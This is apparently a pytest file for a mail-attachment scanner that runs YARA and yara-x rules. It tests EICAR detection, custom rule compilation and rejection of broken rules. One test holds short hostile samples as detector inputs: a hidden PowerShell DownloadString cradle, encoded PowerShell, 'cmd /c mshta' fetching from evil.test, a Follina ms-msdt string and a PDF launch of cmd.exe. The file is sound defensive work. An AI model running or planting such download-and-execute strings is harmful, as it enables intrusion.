"""Both engines behind one interface, and rules that do not compile."""

from pathlib import Path

import pytest

from scanners.attachments import yara
from scanners.attachments.yara import ENGINES, RulesError
from tests.scanners.attachments.samples import EICAR

_RULE = 'rule words { meta: severity = 2 strings: $a = "needle" condition: #a > 1 }'


def _compiled(engine: str, source: Path | str | dict[str, str] | None) -> yara.CompiledRules:
    if engine == "yara-x":
        pytest.importorskip("yara_x", reason="yara-x missing: pip install sealgate[yara-x]")
    return yara.compile_rules(source, engine)


@pytest.mark.parametrize("engine", ENGINES)
def test_shipped_rules_find_eicar_and_leave_text_alone(engine: str, tmp_path: Path) -> None:
    loaded = yara.load_rules(_compiled(engine, None).save(tmp_path))
    (hit,) = loaded.match(b"x" * 10 + EICAR)
    assert (hit.rule, hit.severity, hit.offset, hit.length, hit.count) == ("eicar", 4, 10, 68, 1)
    assert loaded.match("本合同总价：USD 120,000 powershell is a shell".encode()) == ()


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize(
    ("rule", "data"),
    [
        ("powershell_dropper", b"PowerShell -w hidden (New-Object Net.WebClient).DownloadString('http://x')"),
        ("powershell_dropper", "powershell -enc ".encode("utf-16-le") + ("A" * 80).encode("utf-16-le")),
        ("script_dropper", b'CreateObject("MSXML2.XMLHTTP") ADODB.Stream WScript.Shell'),
        ("living_off_the_land", b"cmd /c mshta http://evil.test/a.hta"),
        ("follina", b"ms-msdt:/id PCWDiagnostic IT_BrowseForFile="),
        ("pdf_launch_command", b"%PDF-1.4 /Launch /F (cmd.exe)"),
        ("rtf_object_autoload", b"{\\rtf1 \\object\\objupdate {\\*\\objdata 00}}"),
    ],
)
def test_each_shipped_rule_has_its_prey(engine: str, rule: str, data: bytes, tmp_path: Path) -> None:
    loaded = yara.load_rules(_compiled(engine, None).save(tmp_path))
    assert rule in {hit.rule for hit in loaded.match(data)}


@pytest.mark.parametrize("engine", ENGINES)
def test_own_rules_severity_and_count(engine: str, tmp_path: Path) -> None:
    loaded = yara.load_rules(_compiled(engine, _RULE).save(tmp_path))
    (hit,) = loaded.match(b"a needle and a needle")
    assert (hit.rule, hit.severity, hit.count) == ("words", 2, 2)


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("text", ["rule {", 'include "other.yar"\n' + _RULE, "rule a { condition: undefined_word }"])
def test_rules_that_do_not_compile_say_so(engine: str, text: str) -> None:
    with pytest.raises(RulesError):
        _compiled(engine, text)


def test_the_version_is_that_of_the_sources() -> None:
    first, second = yara.compile_rules({"a": _RULE}), yara.compile_rules({"a": _RULE + " "})
    assert first.version == yara.compile_rules({"a": _RULE}).version
    assert first.version != second.version


def test_a_folder_of_rules(tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text(_RULE)
    (tmp_path / "more.yara").write_text(_RULE.replace("words", "others"))
    assert yara.compile_rules(tmp_path).count == 2


def test_what_is_not_compiled_does_not_load(tmp_path: Path) -> None:
    for name in ("yara-1.rules", "yara-x-1.rules"):
        (tmp_path / name).write_bytes(b"rubbish")
        with pytest.raises(RulesError):
            yara.load_rules(tmp_path / name)
    with pytest.raises(RulesError):
        yara.read_sources(tmp_path / "missing.yar")


def test_unknown_engine() -> None:
    with pytest.raises(RulesError, match="yara-x"):
        yara.compile_rules(_RULE, "clam")
